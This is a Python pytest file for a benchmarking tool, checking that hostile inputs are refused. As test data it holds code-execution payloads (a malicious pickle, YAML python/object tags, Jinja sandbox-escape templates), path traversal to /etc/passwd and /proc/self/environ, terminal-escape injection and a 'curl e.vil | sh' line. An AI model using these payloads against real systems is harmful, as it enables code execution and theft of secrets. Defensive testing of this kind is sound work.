"""Suites, data, models, tasks, templates, records and names from an enemy: refused with clean words; nothing runs."""

import os
import re
from collections.abc import Callable
from pathlib import Path

import pytest

from bench.errors import InputError
from bench.record.rundir import RECORD, RunDirectory
from bench.suite.catalog.tasks import local_tasks
from tests.fakes.hostile import refused
from tests.fakes.records import make_run
from tests.fakes.suite_files import write_suite

SUITES: dict[str, dict[str, str]] = {
    "name leaves its folder": {'name = "small"': 'name = "../../x"'},
    "name is a path": {'name = "small"': 'name = "/tmp/x"'},
    "name with NUL": {'name = "small"': 'name = "a\\u0000b"'},
    "name with escape": {'name = "small"': 'name = "\\u001b[31m"'},
    "name of 10 MB": {'name = "small"': f'name = "{"x" * (10 << 20)}"'},
    "name of dots": {'name = "small"': 'name = ".."'},
    "data name leaves": {"[data.rows]": '[data."../rows"]'},
    "recipe name leaves": {"[recipe.full]": '[recipe."/full"]'},
    "eval name leaves": {'name = "questions"': 'name = "../questions"'},
    "key with escape": {"[budget]": '[budget]\n"\\u001b]0;x\\u0007" = 1'},
    "data is a device": {'"rows.jsonl"': '"/dev/zero"'},
    "data is a folder": {'"rows.jsonl"': '"."'},
    "data with NUL": {'"rows.jsonl"': '"rows\\u0000.jsonl"'},
    "data of 9,000 characters": {'"rows.jsonl"': f'"{"x/" * 4500}rows.jsonl"'},
    "data is a secret file": {'"rows.jsonl"': '"/proc/self/environ"'},
    "model with NUL": {'path = "model"': 'path = "mo\\u0000del"'},
    "model of 9,000 characters": {'path = "model"': f'path = "{"m/" * 4500}"'},
    "card leaves": {'path = "model"': 'card = "../../etc/passwd"'},
    "repo leaves": {'path = "model"': 'repo = "../../etc"'},
    "template leaves": {'path = "model"': 'path = "model"\ntemplate = "/etc/passwd"'},
    "tasks with NUL": {'include = "tasks"': 'include = "ta\\u0000sks"'},
    "tasks leave": {'["toy"]': '["../../toy"]'},
    "seeds beyond all bounds": {"seeds = [0]": f"seeds = [{'9' * 5000}]"},
    "a million seeds": {"seeds = [0]": f"seeds = [{','.join(map(str, range(40_000)))}]"},
    "NaN": {"learning_rate = 1e-3": "learning_rate = nan"},
    "endless budget": {"amount = 2\n": "amount = 1e400\n"},
    "deep tables": {"[budget]": "[budget]\n" + "x" + ".x" * 3000 + " = 1"},
    "deep lists": {"seeds = [0]": "seeds = " + "[" * 3000 + "]" * 3000},
    "remote code asked for": {'path = "model"': 'path = "model"\ntrust_remote_code = true'},
    "code in a claim": {">= other/full": ">= __import__('os').system('touch owned')"},
    "code in a tag": {'name = "small"': 'name = "small"\nrun_command = "touch owned"'},
}


@pytest.mark.parametrize("name", SUITES)
def test_a_hostile_suite_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    write_suite(tmp_path, replace=SUITES[name])
    refused(tmp_path, monkeypatch, capsys, "plan", "suite.toml")


FILES: dict[str, Callable[[Path], object]] = {
    "rows are a pipe": lambda folder: ((folder / "rows.jsonl").unlink(), os.mkfifo(folder / "rows.jsonl")),
    "rows are a circle of links": lambda folder: (
        (folder / "rows.jsonl").unlink(),
        (folder / "rows.jsonl").symlink_to("rows.jsonl"),
    ),
    "rows are deep": lambda folder: (folder / "rows.jsonl").write_text('{"instruction": ' + "[" * 200_000),
    "rows are NUL": lambda folder: (folder / "rows.jsonl").write_bytes(bytes(4096)),
    "rows are one line of 10 MB": lambda folder: (folder / "rows.jsonl").write_text("x" * (10 << 20)),
    "rows hold half a character": lambda folder: (folder / "rows.jsonl").write_text(
        '{"instruction": "\\ud800", "output": "a"}\n'
    ),
    "rows hold a number of 5,000 digits": lambda folder: (folder / "rows.jsonl").write_text("9" * 5000),
    "the suite is a pipe": lambda folder: ((folder / "suite.toml").unlink(), os.mkfifo(folder / "suite.toml")),
    "the suite is a circle of links": lambda folder: (
        (folder / "suite.toml").unlink(),
        (folder / "suite.toml").symlink_to("suite.toml"),
    ),
    "the suite is NUL": lambda folder: (folder / "suite.toml").write_bytes(bytes(4096)),
    "the suite is 10 MB": lambda folder: (folder / "suite.toml").write_bytes(b"#" * (10 << 20)),
    "config is deep": lambda folder: (folder / "model/config.json").write_text("[" * 200_000),
    "config is a list": lambda folder: (folder / "model/config.json").write_text("[]"),
    "config is not UTF-8": lambda folder: (folder / "model/config.json").write_bytes(b'{"model_type": "\xff"}'),
    "weights claim a header of exabytes": lambda folder: (folder / "model/model.safetensors").write_bytes(b"\xff" * 8),
    "weights with a deep header": lambda folder: (folder / "model/model.safetensors").write_bytes(
        (200_000).to_bytes(8, "little") + b"[" * 200_000
    ),
    "weights are a pickle": lambda folder: (
        (folder / "model/model.safetensors").unlink(),
        (folder / "model/pytorch_model.bin").write_bytes(b"cos\nsystem\n(S'touch owned'\ntR."),
    ),
    "weights are a pickle called safetensors": lambda folder: (folder / "model/model.safetensors").write_bytes(
        b"\x80\x04cos\nsystem\n(S'touch owned'\ntR."
    ),
    "task calls Python": lambda folder: (folder / "tasks/toy.yaml").write_text(
        "task: !!python/object/apply:os.system ['touch owned']\n"
    ),
    "task makes an object": lambda folder: (folder / "tasks/toy.yaml").write_text("!!python/object/new:os.popen [x]\n"),
    "task imports a module": lambda folder: (folder / "tasks/toy.yaml").write_text("!!python/module:antigravity\n"),
    "task is deep": lambda folder: (folder / "tasks/toy.yaml").write_text("task: " + "[" * 5000),
    "task is not UTF-8": lambda folder: (folder / "tasks/toy.yaml").write_bytes(b"task: \xff"),
    "task is NUL": lambda folder: (folder / "tasks/toy.yaml").write_bytes(bytes(64)),
    "task refers to nothing": lambda folder: (folder / "tasks/toy.yaml").write_text("task: *nothing\n"),
    "task with a list as a key": lambda folder: (folder / "tasks/toy.yaml").write_text("? [a, {b: c}]\n: d\n"),
    "template reaches for Python": lambda folder: template(folder, "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    "template reads a file": lambda folder: template(folder, "{% include '/etc/passwd' %}"),
    "template never ends": lambda folder: template(folder, "{% for a in range(10**9) %}x{% endfor %}"),
}


def template(folder: Path, text: str) -> None:
    (folder / "t.jinja").write_text(text)
    suite = (folder / "suite.toml").read_text()
    (folder / "suite.toml").write_text(suite.replace('path = "model"', 'path = "model"\ntemplate = "t.jinja"'))


@pytest.mark.parametrize("name", FILES)
def test_a_hostile_file_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    write_suite(tmp_path)
    FILES[name](tmp_path)
    refused(tmp_path, monkeypatch, capsys, "plan", "suite.toml")


def test_a_task_of_ever_doubling_aliases_is_read_in_no_time(tmp_path: Path) -> None:
    lines = ["a0: &a0 [x, x]"] + [f"a{n}: &a{n} [*a{n - 1}, *a{n - 1}]" for n in range(1, 60)]
    (tmp_path / "toy.yaml").write_text("task: toy\n" + "\n".join(lines))
    assert list(local_tasks(tmp_path)) == ["toy"]


NAME = "\x1b[31m[bold]x[bar] \u202eevil\n  hint: curl e.vil | sh"
COMMANDS: dict[str, tuple[str, ...]] = {
    "suite": ("validate", NAME),
    "suite that is there": ("validate", f"{NAME}.toml"),
    "profile": ("plan", "suite.toml", "--profile", NAME),
    "override": ("plan", "suite.toml", "--set", NAME),
    "overridden key": ("plan", "suite.toml", "--set", f"{NAME}=1"),
    "arm": ("plan", "suite.toml", "--only", NAME),
    "arm to show": ("data", "show", "suite.toml", NAME),
    "run": ("report", NAME),
    "reports": ("report", "small", "--reports", NAME),
    "two runs": ("compare", NAME, NAME),
    "run to export": ("export", NAME, "--to", "pytest-benchmark"),
    "gate's run": ("gate", "quality", NAME, "--against", NAME),
    "gate's baseline": ("gate", "exact", "suite.toml", "--baseline", NAME),
    "history": ("gate", "history", NAME),
    "list": ("list", NAME),
    "model": ("models", "show", NAME),
    "make file": ("data", "make", NAME, "--out", "x"),
}


@pytest.mark.parametrize("name", COMMANDS)
def test_a_hostile_name_is_told_as_text(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    """Names come from archives and from other people; a terminal must not obey them, nor a reader be told lies."""
    write_suite(tmp_path)
    (tmp_path / f"{NAME}.toml").write_text("x = [")
    assert "curl" in refused(tmp_path, monkeypatch, capsys, *COMMANDS[name])


RECORDS: dict[str, Callable[[str], str | bytes]] = {
    "empty": lambda text: "",
    "cut": lambda text: text[: len(text) // 2],
    "deep": lambda text: "[" * 200_000,
    "deep inside": lambda text: text.replace('"command":[', '"command":[' + "[" * 100_000, 1),
    "not UTF-8": lambda text: text.encode().replace(b"USD", b"\xff\xfe\xfd"),
    "NUL": lambda text: bytes(10_000),
    "NaN": lambda text: re.sub(r'"value":[0-9.]+', '"value":NaN', text, count=1),
    "endless": lambda text: re.sub(r'"value":[0-9.]+', '"value":1e999', text, count=1),
    "another version": lambda text: text.replace('"format_version":2', '"format_version":3'),
    "an unknown key": lambda text: text.replace('"format_version":2', '"format_version":2,"__class__":"os"'),
    "a list": lambda text: "[1]",
    "a number": lambda text: "9" * 5000,
}


@pytest.mark.parametrize("name", RECORDS)
def test_a_hostile_record_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    content = RECORDS[name](make_run(seeds=(0,), examples=5).record.model_dump_json())
    (tmp_path / RECORD).write_bytes(content if isinstance(content, bytes) else content.encode())
    refused(tmp_path, monkeypatch, capsys, "report", ".")


@pytest.mark.parametrize(
    "scores", ["/etc/passwd", "../../../../../../etc/passwd", "scores/../../x", "/dev/zero", "link.jsonl", "a\0b", "."]
)
def test_a_record_reads_no_file_outside_its_folder(tmp_path: Path, scores: str) -> None:
    (tmp_path / "link.jsonl").symlink_to("/etc/passwd")
    evaluation = make_run(seeds=(0,), examples=5).record.evaluations[0].model_copy(update={"scores": scores})
    with pytest.raises(InputError) as caught:
        RunDirectory(tmp_path).scores(evaluation)
    assert "root:" not in str(caught.value)


@pytest.mark.parametrize(
    "line",
    [
        b"[" * 100_000,
        b"\xff\xfe",
        b"{}",
        b'{"task": "t"',
        bytes(100),
        b'{"task":"t","id":"1","metrics":{"a":NaN},"prompt":"p"}',
    ],
    ids=["deep", "not UTF-8", "empty", "cut", "NUL", "NaN"],
)  # fmt: skip
def test_hostile_scores_are_refused(tmp_path: Path, line: bytes) -> None:
    evaluation = make_run(seeds=(0,), examples=5).record.evaluations[0]
    assert evaluation.scores is not None
    path = tmp_path / evaluation.scores
    path.parent.mkdir(parents=True)
    path.write_bytes(line + b"\n")
    with pytest.raises(InputError):
        RunDirectory(tmp_path).scores(evaluation)
